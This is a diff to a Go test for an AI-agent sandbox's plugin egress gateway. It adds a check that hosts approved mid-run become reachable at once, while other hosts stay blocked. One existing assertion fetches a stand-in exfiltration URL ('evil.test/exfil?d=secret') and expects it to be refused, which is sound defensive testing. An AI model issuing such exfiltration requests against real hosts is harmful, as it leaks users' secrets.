@@ -164,8 +164,9 @@ func TestPluginEgressThroughGateway(t *testing.T) {
 // the agent, so a real confined tools-http reaches exactly what the
 // policy of its agent's sandbox allows, through the egress gateway, and
 // every fetch is audited under the plugin's identity: the allowed host is
-// fetched, another host on the same address is refused, and a tools-http
-// no agent uses reaches nothing.
+// fetched, another host on the same address is refused until the
+// sandbox's policy allows it (then at once, while the plugin runs), and a
+// tools-http no agent uses reaches nothing.
 func TestEscape_PL2_ToolsHTTPUnderTheSandboxPolicy(t *testing.T) {
 	binDir := confinedBinDir(t)
 	ln, err := net.Listen("tcp", "127.0.0.2:0")
@@ -210,7 +211,7 @@ func TestEscape_PL2_ToolsHTTPUnderTheSandboxPolicy(t *testing.T) {
 	r, err := New(context.Background(), Options{
 		Home: home, Drivers: map[string]sandbox.Driver{"local": newFakeDriver(0)}, Executable: "/bin/true", PluginBinDir: binDir,
 		UpstreamCAFile: caFile,
-		ConfinePlugins: true, EgressResolver: nameResolver{"docs.test": lo2, "evil.test": lo2, "secure.test": lo2}, UnsafeAllowLoopback: true,
+		ConfinePlugins: true, EgressResolver: nameResolver{"docs.test": lo2, "evil.test": lo2, "secure.test": lo2, "later.test": lo2}, UnsafeAllowLoopback: true,
 		Credential: func(name string) (string, error) { return "", fmt.Errorf("no credential %s", name) },
 	})
 	if err != nil {
@@ -218,10 +219,15 @@ func TestEscape_PL2_ToolsHTTPUnderTheSandboxPolicy(t *testing.T) {
 	}
 	defer r.Close(context.Background())
 
-	pol := &policy.Policy{Name: "p", Network: []policy.NetworkRule{{Name: "docs", Endpoints: []policy.Endpoint{
-		{Host: "docs.test", Ports: []int{port}},
-		{Host: "secure.test", Ports: []int{securePort}, Inspect: true, Allow: []policy.HTTPRule{{Methods: []string{"GET"}, Paths: []string{"/public/**"}}}},
-	}}}}
+	pol := &policy.Policy{Name: "p", Revision: 1, UnknownHosts: policy.UnknownDeny, Filesystem: policy.Filesystem{ReadOnly: []string{"/usr"}},
+		Network: []policy.NetworkRule{{Name: "docs", Endpoints: []policy.Endpoint{
+			{Host: "docs.test", Ports: []int{port}},
+			{Host: "secure.test", Ports: []int{securePort}, Inspect: true, Allow: []policy.HTTPRule{{Methods: []string{"GET"}, Paths: []string{"/public/**"}}}},
+		}}}}
+	// The sandbox's policy in the gateway, as configureGateway sets it.
+	if err := r.egress.SetPolicy("s", pol); err != nil {
+		t.Fatal(err)
+	}
 	bp := &blueprints.Blueprint{
 		Sandboxes: []*blueprints.Sandbox{{Name: "s", Policy: pol}},
 		Agents:    []*blueprints.Agent{{Name: "a", Sandbox: "s", Tools: []string{"web"}}},
@@ -255,6 +261,22 @@ func TestEscape_PL2_ToolsHTTPUnderTheSandboxPolicy(t *testing.T) {
 	}
 	if got := fetch(s, fmt.Sprintf("http://evil.test:%d/exfil?d=secret", port)); !strings.HasPrefix(got, "error=true") || strings.Contains(got, "page of") {
 		t.Errorf("a host outside the sandbox's policy was fetched: %s", got)
+	}
+	// A host the operator adds to the sandbox's policy while the plugin
+	// runs (an approval, `policy set`) is fetched at once: the plugin is
+	// judged by the sandbox's policy in force, not the one it started with.
+	later := pol.Clone()
+	later.Revision = 2
+	later.Network = append(later.Network, policy.NetworkRule{Name: "approved", Source: "approval", Endpoints: []policy.Endpoint{{Host: "later.test", Ports: []int{port}}}})
+	laterURL := fmt.Sprintf("http://later.test:%d/new", port)
+	if got := fetch(s, laterURL); !strings.HasPrefix(got, "error=true") {
+		t.Errorf("later.test was fetched before it was approved: %s", got)
+	}
+	if err := r.egress.SetPolicy("s", later); err != nil {
+		t.Fatal(err)
+	}
+	if got := fetch(s, laterURL); !strings.Contains(got, "page of later.test") || strings.HasPrefix(got, "error=true") {
+		t.Errorf("a host approved while the plugin runs was not fetched: %s", got)
 	}
 	// The inspected endpoint: the plugin trusts its launch's CA, and the
 	// policy's HTTP rules hold for its fetches as for the agent's.
